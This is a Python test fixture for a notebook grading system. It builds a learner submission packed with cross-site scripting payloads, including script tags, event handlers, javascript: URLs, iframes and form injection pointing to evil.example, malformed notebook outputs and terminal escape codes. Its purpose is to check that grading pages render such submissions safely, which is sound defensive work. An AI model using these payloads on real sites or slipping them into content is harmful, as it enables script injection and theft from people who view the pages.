"""A submission that attacks whoever looks at it, for tests of pages."""

import nbformat
from submissions import graded

ATTACKS = [
    "<script>steal()</script>",
    "<img src=x onerror=steal()>",
    "[click](javascript:steal()) <javascript:steal()> [x]: <JaVaScRiPt:steal()>",
    "<a href='&#106;avascript:steal()'>x</a> [d](data:text/html;base64,PHNjcmlwdD4=)",
    "<iframe src='//evil.example'></iframe> <meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import url(//evil.example/x.css)</style> <b style='background:url(//evil.example)'>x</b>",
    "<svg onload=steal()><script>steal()</script></svg>",
    "![a](//evil.example/x.png) ![attached](attachment:x.png)",
    "```mermaid\n<img src=x onerror=steal()>\n```",
    "<math><mtext></table><mglyph><style><img src=x onerror=steal()>",
    "</div></div></div></body><form action='//evil.example'><input name=x>",
    "$\\href{javascript:steal()}{x}$ $$\\require{//evil.example/x}$$",
    "half a pair \ud800 and \x1b]0;title\x07 \x00",
]
JS, SVG = "application/javascript", "<svg xmlns='http://www.w3.org/2000/svg' onload='steal()'/>"
OUTPUTS = [
    {"output_type": "stream", "name": "stdout", "text": "\x1b[31m<script>steal()</script>\x1b]8;;//evil.example\x07"},
    {"output_type": "error", "ename": "<script>", "evalue": "<b>", "traceback": ["<script>steal()</script>", 3]},
    {
        "output_type": "display_data",
        "data": {"text/html": ATTACKS[0], "image/svg+xml": SVG, JS: "steal()"},
        "metadata": {},
    },
    {"output_type": "display_data", "data": {"image/png": '"><script>steal()</script>'}, "metadata": {}},
    {
        "output_type": "execute_result",
        "data": {"text/latex": "$x$", "text/plain": ["<script>", "steal()"]},
        "metadata": {},
    },
    {"output_type": "display_data", "data": [], "metadata": 1},
    {"output_type": "update_display_data"},
    {},
]


def hostile(learner):
    """A submission that attacks whoever looks at it, in every cell it can write to."""
    one = graded(learner, text="\n\n".join(ATTACKS), note=ATTACKS[1])
    for cell in (cell for result in one.parts for cell in result.notebook.cells if cell.metadata.get("nbgrader")):
        if cell.cell_type == "code" and cell.metadata.nbgrader.solution:
            cell.source, cell.outputs = ATTACKS[0], [nbformat.from_dict(output) for output in OUTPUTS]
        elif cell.cell_type == "markdown":
            cell.attachments = {"x.png": {"text/html": "PHNjcmlwdD4="}}
    for mark in one.marks:
        mark.report = ATTACKS[0] + "\x1b[2J"
    return one
